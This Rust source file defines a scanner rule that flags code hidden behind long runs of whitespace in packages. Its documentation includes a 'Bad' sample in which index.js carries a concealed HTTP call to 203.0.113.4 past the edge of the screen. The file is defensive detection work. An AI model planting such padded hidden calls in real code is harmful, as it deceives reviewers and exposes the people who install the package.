//! # Code stands behind a long run of blanks
//!
//! On one line, code follows so many blanks that no editor shows it, or a command of a setting does.
//!
//! ## Why it matters
//!
//! A reviewer sees an honest line. The rest begins past the edge of the screen.
//!
//! ## Known benign uses
//!
//! Aligned tables and drawings hold no code after their blanks.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.x = 1;                                                                                                                                                                                                                                                global.y = require("http").get("http://203.0.113.4/"); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.banner = `
//!                                                                                                                                                                                                                                                 _____
//!                                                                                                                                                                                                                                                 (x=1);
//! `;
//! ```
//!
//! ## References
//!
//! - Microsoft: Contagious Interview (May 2026)

use crate::prelude::*;

/// Code stands behind a long run of blanks.
pub struct TextCodeBehindBlanks;

impl Rule for TextCodeBehindBlanks {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "text-code-behind-blanks",
            title: "Code stands behind a long run of blanks",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1027.001",
            covers: &["whitespace-padding"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let hidden =
            facts.concealments().iter().filter(|concealment| concealment.kind == ConcealmentKind::Padding);
        for concealment in hidden.filter(|concealment| concealment.trigger != Trigger::Dormant) {
            found.at(concealment.trigger, &concealment.locus, "holds code behind a long run of blanks");
        }
        for fact in facts.auto_runs().iter().filter(|fact| fact.entry.notes.contains(&AutoRunNote::Padded)) {
            found.at(Trigger::Install, &fact.locus, "holds a command behind a long run of blanks");
        }
    }
}
